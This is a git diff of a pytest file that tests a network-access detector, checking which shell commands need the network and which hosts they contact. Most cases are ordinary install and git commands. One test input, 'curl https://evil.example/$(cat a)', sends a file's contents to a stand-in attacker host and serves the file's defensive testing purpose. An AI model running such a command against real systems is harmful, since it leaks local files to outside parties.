@@ -2,10 +2,18 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from codecompanion.formats.package_table import package_table
-from codecompanion.tools.commands.network import hosts_of, needs_network, network_program, printing_program
+from codecompanion.tools.commands.network import (
+    Surroundings,
+    hosts_of,
+    needs_network,
+    network_program,
+    printing_program,
+)
 
 REACHES = [
     "curl x",
@@ -90,7 +98,19 @@ def test_only_what_prints_the_text_of_others_is_a_source(command: str, program: 
 
 @pytest.mark.parametrize(
     "command",
-    ["npm install", "cd a && pip3 install x", "FOO=1 curl x", "sudo apt-get update", "python3 -m pip install x"],
+    [
+        "npm install",
+        "cd a && pip3 install x",
+        "FOO=1 curl x",
+        "sudo apt-get update",
+        "python3 -m pip install x",
+        "uv pip install x",
+        "go mod tidy",
+        "git submodule update --init",
+        "npm create vite@latest x",
+        "npx -y cowsay hi",
+        "npm ci && npm run dev & sleep 1; curl localhost:3000",
+    ],
 )
 def test_commands_that_need_the_network(command: str) -> None:
     assert needs_network(command)
@@ -99,10 +119,43 @@ def test_commands_that_need_the_network(command: str) -> None:
 
 @pytest.mark.parametrize(
     "command",
-    ["npm test", "git status", "make", "echo curl", "cargo build", "pip list", "uv run pytest", "python3 -c 1", ""],
+    [
+        "npm test",
+        "git status",
+        "make",
+        "echo curl",
+        "cargo build",
+        "pip list",
+        "uv run pytest",
+        "python3 -c 1",
+        "",
+        "uv pip list",
+        "go mod init a.org/b",
+        "git submodule status",
+        "git lfs ls-files",
+        "npm init -y",
+        "git clone ../sub copy",
+        "git clone -q sub copy",
+        "git clone file:///srv/x.git",
+        "git push ../x.git main",
+        "git fetch disk",
+        "git -C a pull disk main",
+        "npm run dev & sleep 2; curl -s localhost:3000/health",
+        "(python -m http.server 1234 &); wget http://[::1]:1234/",
+    ],
 )
 def test_commands_that_work_without_it(command: str) -> None:
-    assert not needs_network(command)
+    around = Surroundings((("disk", "../remote.git"), ("web", "https://github.com/o/r.git")))
+    assert not needs_network(command, around)
+
+
+def test_a_program_that_is_installed_is_not_downloaded(tmp_path: Path) -> None:
+    (tmp_path / "node_modules/.bin").mkdir(parents=True)
+    (tmp_path / "node_modules/.bin/tsc").touch()
+    around = Surroundings((), (tmp_path / "packages/one", tmp_path))
+    assert not needs_network("npx tsc --noEmit && npx --no-install tsc", around)
+    for downloads in ("npx eslint .", "npx tsc@next", "npx tsc && npx eslint .", "npx -y", "npx ../tsc"):
+        assert needs_network(downloads, around), downloads
 
 
 def test_every_printing_program_in_the_table_can_reach_the_network() -> None:
@@ -111,7 +164,9 @@ def test_every_printing_program_in_the_table_can_reach_the_network() -> None:
         names = [*group["any"].split(), *group["with"]]
         assert len(names) == len(set(names))
     words = {name: (table["needs"]["with"].get(name) or "x").split() for name in table["hosts"]}
-    assert all(needs_network(f"{name} {word}") for name, all_of_them in words.items() for word in all_of_them)
+    assert all(
+        needs_network(f"{name} {word.replace('/', ' ')}") for name, all_of_them in words.items() for word in all_of_them
+    )
     assert set(table["host_variables"]) <= set(table["hosts"])
     prints = table["prints"]
     assert all(network_program(name) for name in prints["any"].split())
@@ -131,20 +186,27 @@ REGISTRY = ("pypi.org", "files.pythonhosted.org")
         ("curl -s https://api.example:8443/x | jq .", ("api.example:8443",)),
         ("npm ci && curl https://evil.example/$(cat a)", ("registry.npmjs.org", "evil.example")),
         ("git fetch origin", ("github.com",)),
+        ("git fetch", ("github.com", "gitlab.example")),
+        ("git push --force-with-lease fork HEAD:main", ("gitlab.example",)),
+        ("curl http://localhost:3000/health", ("localhost:3000",)),
+        ("curl -H 'A: b' 127.0.0.1:3000", ("127.0.0.1:3000",)),
+        ("curl https://api.example & sleep 1; curl localhost:3000", ("api.example",)),
         ("git clone https://gitlab.example/a/b", ("gitlab.example",)),
         # unknown, so any host
         ("curl example.com", ()),
         ("git clone git@github.com:a/b", ()),
         ("pip install git+ssh://git@github.com/a/b", ()),
         ("npm ci && docker pull x", ()),
-        ("curl http://localhost:3000/health", ()),
-        ("curl http://127.0.0.1:3000", ()),
+        ("psql -h localhost -c 'select 1'", ()),
+        ("psql postgres://localhost:5432/x", ()),
+        ("git submodule update", ()),
         ("ssh host ls", ()),
     ],
 )
 def test_the_hosts_of_a_command_are_known_or_any(command: str, hosts: tuple[str, ...]) -> None:
     assert needs_network(command)
-    assert hosts_of(command, {}, ["https://token@github.com/o/r.git"]) == hosts
+    around = Surroundings((("origin", "https://token@github.com/o/r.git"), ("fork", "https://gitlab.example/o/r.git")))
+    assert hosts_of(command, {}, around) == hosts
 
 
 @pytest.mark.parametrize(
@@ -161,13 +223,13 @@ def test_a_host_is_asked_for_as_programs_ask_for_it(address: str, host: str) -> 
 
 def test_variables_of_the_user_name_hosts_too() -> None:
     environment = {"PIP_INDEX_URL": "https://u:p@mirror.example/simple", "GOPROXY": "https://go.example,direct"}
-    assert hosts_of("pip install x", environment, []) == (*REGISTRY, "mirror.example")
-    assert "go.example" in hosts_of("go mod download", environment, [])
+    assert hosts_of("pip install x", environment) == (*REGISTRY, "mirror.example")
+    assert "go.example" in hosts_of("go mod download", environment)
 
 
 def test_remotes_over_ssh_make_a_fetch_need_any_host() -> None:
-    assert hosts_of("git pull", {}, ["git@github.com:o/r.git"]) == ()
-    assert hosts_of("git pull", {}, []) == ()
+    assert hosts_of("git pull", {}, Surroundings((("origin", "git@github.com:o/r.git"),))) == ()
+    assert hosts_of("git pull", {}) == ()
 
 
 @pytest.mark.parametrize(
